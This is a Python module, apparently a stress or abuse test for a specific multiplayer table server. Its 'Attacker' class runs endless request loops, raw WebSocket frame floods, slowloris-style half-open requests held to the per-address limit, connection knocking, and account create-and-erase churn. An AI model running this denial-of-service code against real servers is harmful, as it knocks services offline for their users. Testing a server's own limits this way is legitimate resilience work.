"""Somebody who asks for the worst there is, as often as an address may."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager, suppress
from http import HTTPStatus
from http.client import HTTPConnection, HTTPException
from random import Random
from socket import create_connection, socket
from typing import NamedTuple

from msgspec import json
from websockets.exceptions import WebSocketException
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin

FLOODED = 10_000  # frames in one go
HANDS = 8  # connections at once
MOST_HELD = 200 // HANDS  # connections an address may have open, for each hand
PUSH_KEY = f"{'A' * 42}E"  # the number one: a server needs some key to remind anybody
FINE = "fine"  # said of an answer that brings what was asked for


class Aim(NamedTuple):
    """A server, somebody there, tables of theirs, and names of what is written."""

    host: str
    origin: str
    cookie: str
    table: str
    over: str
    puzzle: str  # a table
    puzzle_id: str
    lesson: str  # a table
    lesson_id: str
    seat: int  # that is to move at the first table
    at: int  # its version
    team: str  # a table where a friend plays, too
    friend: str  # whose cookie this is
    day: str  # whose deal of `day_game` was played to its end
    day_game: str
    duel: str  # that was given up, so that all is told of it
    shared: str  # a table of its


class Attacker:
    """Asks until it is ended, through several connections."""

    def __init__(self, aim: Aim, address: str, heard: Callable[[str], None] | None = None) -> None:
        self.aim = aim
        self._listening = heard  # is told what is answered, or why nothing is
        self.host, _, port = aim.host.partition(":")
        self.port = int(port)
        self.headers = {"Origin": aim.origin, "Cookie": aim.cookie, "Accept-Encoding": "br"}
        self.address = address

    def _heard(self, *answers: str) -> None:
        """Tell what was answered, each answer once, to whoever wants to know."""
        if self._listening is not None:
            self._listening(", ".join(dict.fromkeys(answers)))

    def ask(
        self,
        method: str,
        path: str,
        body: bytes | None = None,
        is_known: bool = True,
        more: Mapping[str, str] | None = None,
    ) -> None:
        """One request after another, for ever; as a guest, unless one is not to be known."""
        path = path.format(**self.aim._asdict())
        for name, told in self.aim._asdict().items():
            body = body and body.replace(f"{{{name}}}".encode(), str(told).encode())
        who = self.headers if is_known else {"Origin": self.aim.origin}
        who = who | dict(more or {})
        while True:
            connection = HTTPConnection(
                self.host, self.port, source_address=(self.address, 0), timeout=20
            )
            try:
                while True:
                    headers = {"Content-Type": "application/json"} if body else {}
                    connection.request(method, path, body, who | headers)
                    answer = connection.getresponse()
                    self._heard(_answered(answer.status, answer.read()))
                    # Within the ration: what is beyond it is refused, and costs next to nothing.
                    time.sleep(0.2 if answer.status == 429 else 0)
            except (OSError, HTTPException) as error:
                self._heard(repr(error))
                time.sleep(0.1)
            finally:
                connection.close()

    def talk(self, *messages: Mapping[str, object]) -> None:
        """Messages through a socket whose answers are thrown away, unless somebody wants them."""
        if self._listening is not None:
            self._heard(*self._answers_to(*messages))
        self.send(*(masked(json.encode(message)) for message in messages))

    def _answers_to(self, *messages: Mapping[str, object]) -> list[str]:
        try:
            with self._client(self.aim.table, self.headers["Cookie"]) as client:
                return [answer_to(client, message, {}) for message in messages]
        except (OSError, WebSocketException) as error:
            return [repr(error)]

    def deliberate(self) -> None:
        """Ideas that are asked for, given and shown, with a friend who is there, for ever."""
        while True:
            try:
                with (
                    self._client(self.aim.team, self.aim.friend) as friend,
                    self._client(self.aim.team, self.headers["Cookie"]) as own,
                ):
                    self._deliberate(own, friend)
            except (OSError, WebSocketException) as error:
                self._heard(repr(error))
                time.sleep(0.1)

    def _deliberate(self, own: ClientConnection, friend: ClientConnection) -> None:
        seen: dict[str, int] = {}  # which ideas are asked for
        while True:
            answers = [answer_to(own, {"type": "ask_ideas", "id": "asked"}, seen)]
            asked = {"number": seen.get("ideas", 0)}
            given = {"type": "give_idea", "id": "given", "text": "x" * 300}
            answers += [answer_to(own, {**given, **asked}, seen)]
            answers += [answer_to(own, {"type": "show_ideas", "id": "shown", **asked}, seen)]
            self._heard(*answers)
            time.sleep(0.15)  # a socket may send twenty messages a second
            with suppress(TimeoutError):
                while True:
                    friend.recv(timeout=0)

    def vanish(self) -> None:
        """Guests who come, say something at a table and have it all erased, for ever."""
        while True:
            try:
                self._heard(self._vanish_once())
            except (OSError, HTTPException, WebSocketException) as error:
                self._heard(repr(error))
            time.sleep(0.1)

    def _vanish_once(self) -> str:
        answer, cookie = self._posted("/api/me", {"name": "x" * 30}, "")
        if answer == FINE:
            with self._client(self.aim.table, cookie) as client:
                answer_to(client, {"type": "say", "id": "said", "text": "x" * 300}, {})
            answer, _ = self._posted("/api/me/erase", {"sure": True}, cookie)
        return answer

    def _posted(self, path: str, body: object, cookie: str) -> tuple[str, str]:
        """What is answered to one change, and the cookie that comes with it."""
        source = (self.address, 0)
        with closing(HTTPConnection(self.host, self.port, source_address=source, timeout=20)) as to:
            who = {"Origin": self.aim.origin, "Cookie": cookie, "Content-Type": "application/json"}
            to.request("POST", path, json.encode(body), who)
            answer = to.getresponse()
            given = answer.getheader("Set-Cookie", "").partition(";")[0]
            return _answered(answer.status, answer.read()), given

    def flood(self, frame: bytes, first: bytes = b"") -> None:
        """One frame after another through sockets as fast as they are taken, for ever."""
        while True:
            with suppress(OSError), self._joined(self.aim.table) as raw:
                self._heard(FINE)
                raw.setblocking(True)
                raw.settimeout(5)
                raw.sendall(first)
                while True:
                    raw.sendall(frame * FLOODED)
            time.sleep(0.1)

    def send(self, *frames: bytes) -> None:
        """Frames through a socket whose answers are thrown away, for ever."""
        rng = Random(1)
        while True:
            try:
                with self._joined(self.aim.table) as raw:
                    self._heard(FINE)
                    while True:
                        raw.sendall(rng.choice(frames))
                        time.sleep(0.05)
                        with suppress(BlockingIOError):
                            while raw.recv(1_000_000):
                                pass
            except OSError:
                time.sleep(0.1)

    def stare(self) -> None:
        """Requests that are begun and never ended, again whenever they are cut off, for ever.

        All hands together have as many open as an address may, and try for one more.
        """
        held: list[socket] = []
        try:
            while True:
                self._stare_once(held)
        finally:
            for raw in held:
                raw.close()

    def _stare_once(self, held: list[socket]) -> None:
        try:
            raw = socket()
            held.append(raw)
            raw.bind((self.address, 0))
            raw.connect((self.host, self.port))
            raw.sendall(b"GET / HTTP/1.1\r\nHost: ")
            self._heard(FINE)
        except OSError:
            held.pop().close()
            time.sleep(0.1)
        if len(held) > MOST_HELD:
            held.pop(0).close()
            time.sleep(0.02)

    def knock(self) -> None:
        """Connections that are opened and closed without a word, for ever."""
        while True:
            with suppress(OSError), socket() as raw:
                raw.bind((self.address, 0))
                raw.connect((self.host, self.port))
                self._heard(FINE)

    @contextmanager
    def _client(self, table: str, cookie: str) -> Iterator[ClientConnection]:
        """A guest's socket, joined, that takes messages apart."""
        with connect(
            f"ws://{self.aim.host}/ws/tables/{table}",
            sock=create_connection((self.host, self.port), source_address=(self.address, 0)),
            additional_headers={"cookie": cookie},
            origin=Origin(self.aim.origin),
            compression=None,
            max_size=None,
        ) as client:
            answer_to(client, {"type": "join"}, {})
            yield client

    @contextmanager
    def _joined(self, table: str) -> Iterator[socket]:
        with socket() as raw:
            raw.bind((self.address, 0))
            raw.connect((self.host, self.port))
            lines = [
                f"GET /ws/tables/{table} HTTP/1.1",
                f"Host: {self.host}:{self.port}",
                *(f"{name}: {value}" for name, value in self.headers.items()),
                "Upgrade: websocket",
                "Connection: Upgrade",
                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                "Sec-WebSocket-Version: 13",
            ]
            raw.sendall("\r\n".join(lines).encode() + b"\r\n\r\n")
            raw.settimeout(5)
            if b" 101 " not in raw.recv(4096):
                raise ConnectionError("turned away")
            raw.sendall(masked(b'{"type":"join"}'))
            raw.setblocking(False)
            yield raw


def masked(text: bytes) -> bytes:
    """A frame as clients send it, under a mask that changes nothing."""
    size = len(text)
    length = bytes([0x80 | size]) if size < 126 else bytes([0xFE]) + size.to_bytes(2, "big")
    return b"\x81" + length + bytes(4) + text


def answer_to(client: ClientConnection, message: Mapping[str, object], seen: dict[str, int]) -> str:
    """What is answered to a message: what was asked for, or why not. Some are never answered."""
    client.send(json.encode(message).decode())
    while "id" in message or message["type"] == "join":
        told = json.decode(client.recv(timeout=10))
        if told["type"] == "ideas":
            seen["ideas"] = told["number"]
        if "id" in message and told.get("id") == message["id"]:
            return str(told.get("reason", FINE))
        if "id" not in message and told["type"] in ("welcome", "update"):
            return FINE
    return FINE


def _answered(status: int, body: bytes) -> str:
    if status < HTTPStatus.BAD_REQUEST:
        return FINE
    return f"{status} {json.decode(body)['reason']}" if body.startswith(b"{") else str(status)
